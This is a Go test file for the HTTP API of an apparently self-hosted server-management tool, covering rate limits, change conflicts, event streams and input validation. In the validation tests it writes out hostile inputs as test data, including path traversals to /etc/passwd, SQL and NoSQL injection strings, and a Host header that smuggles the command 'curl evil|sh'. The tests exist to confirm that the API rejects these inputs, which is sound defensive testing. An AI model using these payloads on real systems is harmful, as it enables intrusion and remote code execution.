package ui

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/basewright/basewright/core"
)

func TestManualDiagnosesAreLimitedAndJoined(t *testing.T) {
	w := newWorld(t)
	_, login := w.user("root", map[string]core.Role{"*": core.Admin})
	looks, begun, goOn := 0, make(chan bool, 1), make(chan bool)
	w.look = func(i core.Instance) (*core.Diagnosis, error) {
		looks++
		begun <- true
		<-goOn
		return aDiagnosis(i.ID), nil
	}
	answers := make(chan *httptest.ResponseRecorder, 2)
	go func() { answers <- w.ask("POST", "/api/instances/shop/run-diagnostics", login, "") }()
	<-begun
	go func() { answers <- w.ask("POST", "/api/instances/shop/run-diagnostics", login, "") }()
	for w.a.Diagnoses.Waiting() < 2 {
		runtime.Gosched()
	}
	close(goOn)
	first, second := decoded(t, <-answers), decoded(t, <-answers)
	a, b := first["diagnostic"].(map[string]any), second["diagnostic"].(map[string]any)
	if looks != 1 || a["id"] != b["id"] || a["mode"] != "full" || a["trigger"] != "manual" {
		t.Errorf("%d looks, %v and %v", looks, a["id"], b["id"])
	}
	rec := w.ask("POST", "/api/instances/shop/run-diagnostics", login, "")
	p := decoded(t, rec)
	if rec.Code != http.StatusTooManyRequests || rec.Header().Get("Retry-After") == "" || p["last_diagnostic_url"] != "/api/instances/shop/last-diagnostic" || p["error"] != p["detail"] {
		t.Errorf("too soon: %d %v %v", rec.Code, rec.Header(), p)
	}
	if last := decoded(t, w.ask("GET", "/api/instances/shop/last-diagnostic", login, "")); last["success"] != true {
		t.Errorf("last: %v", last)
	}
	if rec := w.ask("GET", "/api/instances/shop/run-diagnostics?mode=deep", login, ""); rec.Code != http.StatusBadRequest {
		t.Errorf("a GET that writes: %d", rec.Code)
	}
}

func TestASecondChangeIsToldOfTheFirst(t *testing.T) {
	w := newWorld(t)
	_, login := w.user("root", map[string]core.Role{"*": core.Admin})
	first := w.ask("POST", "/api/instances/shop/safe-restart", login, "")
	id := decoded(t, first)["change"].(map[string]any)["id"]
	if first.Code != http.StatusAccepted || first.Header().Get("Location") != "/api/changes/"+id.(string) {
		t.Fatalf("%d %v", first.Code, first.Header())
	}
	accepted := 0
	codes := make(chan int, 50)
	for range 50 {
		go func() { codes <- w.ask("POST", "/api/instances/shop/stop", login, "").Code }()
	}
	for range 50 {
		if c := <-codes; c != http.StatusConflict {
			accepted++
		}
	}
	if p := decoded(t, w.ask("POST", "/api/instances/shop/start", login, "")); accepted != 0 || p["change_id"] != id {
		t.Errorf("%d accepted; told of %v, want %v", accepted, p["change_id"], id)
	}
	if rec := w.ask("POST", "/api/instances/other/start", login, ""); rec.Code != http.StatusAccepted {
		t.Errorf("another instance: %d", rec.Code)
	}
	close(w.hold)
	if !w.a.Changes.Close(time.Minute) {
		t.Error("the changes did not end")
	}
	if got := decoded(t, w.ask("GET", "/api/changes/"+id.(string), login, "")); got["change"].(map[string]any)["state"] != "committed" {
		t.Errorf("it ended: %v", got)
	}
	if rec := w.ask("POST", "/api/instances/shop/start", login, ""); rec.Code != http.StatusServiceUnavailable {
		t.Errorf("while stopping: %d", rec.Code)
	}
}

func TestObservedInstancesAreNotChanged(t *testing.T) {
	w := newWorld(t)
	_, login := w.user("root", map[string]core.Role{"*": core.Admin})
	w.ask("PATCH", "/api/instances/shop", login, `{"mode":"observe"}`)
	for path, body := range map[string]string{"start": "", "stop": "", "safe-restart": "", "snapshots": `{"scope":"config"}`, "repairs": `{"playbook":"x","plan_hash":"y"}`} {
		rec := w.ask("POST", "/api/instances/shop/"+path, login, body)
		if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "only observed") {
			t.Errorf("%s: %d %s", path, rec.Code, rec.Body)
		}
	}
}

func TestEventsAreFilteredAndResumed(t *testing.T) {
	w := newWorld(t)
	_, login := w.user("vic", map[string]core.Role{"shop": core.Viewer})
	server := httptest.NewServer(w.h)
	defer server.Close()
	read := func(last string, n int) (lines []string) {
		ctx, cancel := context.WithCancel(t.Context())
		defer cancel()
		r, err := http.NewRequestWithContext(ctx, "GET", server.URL+"/api/events", nil)
		must(t, err)
		r.Header.Set("Authorization", "Bearer "+login)
		r.Header.Set("Last-Event-ID", last)
		resp, err := http.DefaultClient.Do(r)
		must(t, err)
		defer resp.Body.Close()
		if last == "" { // it reads now
			w.a.Hub.Publish("change", "other", map[string]string{"text": canary})
			w.a.Hub.Publish("change", "shop", map[string]string{"text": "one"})
			w.a.Hub.Publish("change", "shop", map[string]string{"text": "two"})
		}
		in := bufio.NewScanner(resp.Body)
		for in.Scan() && len(lines) < n {
			if strings.HasPrefix(in.Text(), "data:") || strings.HasPrefix(in.Text(), "id:") {
				lines = append(lines, in.Text())
			}
		}
		return lines
	}
	first := read("", 4)
	if text := strings.Join(first, "\n"); !strings.Contains(text, `"one"`) || !strings.Contains(text, `"two"`) || strings.Contains(text, canary) {
		t.Fatalf("%q", first)
	}
	again := read(strings.TrimPrefix(first[0], "id: "), 2)
	if strings.Join(again, "\n") != strings.Join(first[2:], "\n") {
		t.Errorf("resumed with %q, want %q", again, first[2:])
	}
}

// TestAReaderWhoTakesNothingIsDropped opens a stream and does not read from it:
// publishing never waits for them, and their connection ends.
func TestAReaderWhoTakesNothingIsDropped(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	_, login := w.user("vic", map[string]core.Role{"shop": core.Viewer})
	ended := make(chan bool, 1)
	server := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { w.h.ServeHTTP(rw, r); ended <- true }))
	defer server.Close()
	conn, err := net.Dial("tcp", server.Listener.Addr().String())
	must(t, err)
	defer conn.Close()
	_, err = fmt.Fprintf(conn, "GET /api/events HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n", server.Listener.Addr(), login)
	must(t, err)
	_, err = bufio.NewReader(conn).ReadString(':') // the stream has begun
	must(t, err)
	huge := strings.Repeat("x", 1<<20)
	for range 200 {
		w.a.Hub.Publish("change", "shop", map[string]string{"text": huge})
	}
	select {
	case <-ended:
	case <-time.After(time.Minute):
		t.Error("a reader who takes nothing is still waited for")
	}
}

func TestAttacks(t *testing.T) {
	w := newWorld(t)
	_, login := w.user("root", map[string]core.Role{"*": core.Admin})
	huge := strings.Repeat("a", 2<<20)
	tests := map[string]struct {
		method, path, kind, body string
		want                     int
	}{
		"a body of 2 MB":              {"POST", "/api/users", "application/json", `{"name":"` + huge + `"}`, 413},
		"JSON that is none":           {"POST", "/api/users", "application/json", `{"name":`, 400},
		"JSON of another type":        {"POST", "/api/users", "application/json", `{"name":{"$ne":""}}`, 400},
		"JSON twice":                  {"POST", "/api/users", "application/json", `{"name":"a"}{"name":"b"}`, 400},
		"a depth of 100,000":          {"POST", "/api/users", "application/json", strings.Repeat("[", 100000), 400},
		"a list for a body":           {"POST", "/api/login", "application/json", `[]`, 400},
		"an adoption of nothing":      {"POST", "/api/instances/adopt", "application/json", `{}`, 400},
		"data that is none, adopted":  {"DELETE", "/api/instances/shop?data=gone", "", "", 400},
		"data of an adopted one":      {"DELETE", "/api/instances/shop?data=quarantine&confirm=shop", "", "", 400},
		"a field that is not taken":   {"POST", "/api/users", "application/json", `{"name":"bob","password":"0123456789ab","role":"admin"}`, 400},
		"no content type":             {"POST", "/api/users", "", `{}`, 415},
		"a form":                      {"POST", "/api/users", "application/x-www-form-urlencoded", `name=bob`, 415},
		"XML":                         {"POST", "/api/users", "text/xml", `<x/>`, 415},
		"a traversal":                 {"GET", "/api/instances/..%2f..%2fetc%2fpasswd", "", "", 404},
		"a traversal with dots":       {"GET", "/api/instances/../../etc/passwd", "", "", 404},
		"a playbook outside":          {"PUT", "/api/playbooks/..%2f..%2fx", "application/json", `{"source":"return {}"}`, 404},
		"a playbook with a dot":       {"PUT", "/api/playbooks/.hidden", "application/json", `{"source":"return {}"}`, 400},
		"a NUL in an id":              {"GET", "/api/instances/a%00b", "", "", 404},
		"SQL in an id":                {"GET", "/api/instances/x'%20or%20'1'='1", "", "", 404},
		"markup in a name":            {"POST", "/api/users", "application/json", `{"name":"<script>","password":"0123456789ab"}`, 400},
		"a name that turns the line":  {"PATCH", "/api/instances/shop", "application/json", `{"name":"a\u202eb"}`, 400},
		"a name of two lines":         {"PATCH", "/api/instances/shop", "application/json", `{"name":"a\nb"}`, 400},
		"a mode that is none":         {"PATCH", "/api/instances/shop", "application/json", `{"mode":"root"}`, 400},
		"a limit of a billion":        {"GET", "/api/audit?limit=1000000000", "", "", 400},
		"a limit below nothing":       {"GET", "/api/audit?limit=-1", "", "", 400},
		"a range of an age":           {"GET", "/api/instances/shop/logs?range=99999h", "", "", 400},
		"a level that is none":        {"GET", "/api/instances/shop/logs?level=%3Cb%3E", "", "", 400},
		"another method":              {"TRACE", "/api/users", "", "", 405},
		"a path that is none":         {"GET", "/api/../../etc", "", "", 404},
		"a schedule every second":     {"POST", "/api/schedules", "application/json", `{"instance_id":"shop","kind":"diagnose","spec":"@every 1s"}`, 400},
		"a schedule with a zone":      {"POST", "/api/schedules", "application/json", `{"instance_id":"shop","kind":"diagnose","spec":"CRON_TZ=UTC * * * * *"}`, 400},
		"a zone from the disk":        {"POST", "/api/schedules", "application/json", `{"instance_id":"shop","kind":"diagnose","spec":"@daily","zone":"../../etc/passwd"}`, 400},
		"a schedule of what is not":   {"POST", "/api/schedules", "application/json", `{"instance_id":"ghost","kind":"diagnose","spec":"@daily"}`, 404},
		"a schedule that never comes": {"POST", "/api/schedules", "application/json", `{"instance_id":"shop","kind":"diagnose","spec":"0 0 31 2 *"}`, 400},
		"a grant of what is none":     {"PUT", "/api/users/x/grants/shop", "application/json", `{"role":"god"}`, 400},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			r := httptest.NewRequest(tt.method, "http://x/", strings.NewReader(tt.body))
			r.URL.RawQuery = ""
			path, query, _ := strings.Cut(tt.path, "?")
			u, err := r.URL.Parse(path)
			must(t, err)
			if strings.Contains(path, "../") {
				u.Path, u.RawPath = path, ""
			}
			u.RawQuery = query
			r.URL = u
			r.Header.Set("Authorization", "Bearer "+login)
			if tt.kind != "" {
				r.Header.Set("Content-Type", tt.kind)
			}
			rec := w.send(r)
			p := decoded(t, rec)
			if rec.Code != tt.want || p["detail"] != p["error"] || rec.Header().Get("Content-Type") != "application/problem+json" {
				t.Errorf("status %d, want %d: %v", rec.Code, tt.want, p)
			}
			if text, _ := p["detail"].(string); len(text) > 500 || strings.Contains(text, "<script>") || strings.Contains(text, "ui.") {
				t.Errorf("it repeats what it was sent: %.600s", text)
			}
		})
	}
}

func TestScheduleConfigHoldsNothingForeign(t *testing.T) {
	w := newWorld(t)
	_, login := w.user("root", map[string]core.Role{"*": core.Admin})
	r := httptest.NewRequest("GET", "/api/instances/shop/schedule-config?interval=12h", nil)
	r.Header.Set("Authorization", "Bearer "+login)
	r.Host = "x;curl evil|sh"
	out := decoded(t, w.send(r))
	text, _ := out["crontab"].(string)
	if strings.Contains(text, "evil") || !strings.Contains(text, "7 */12 * * * curl") || !strings.Contains(text, "YOUR_TOKEN") || strings.Contains(text, login) {
		t.Errorf("%s", text)
	}
}
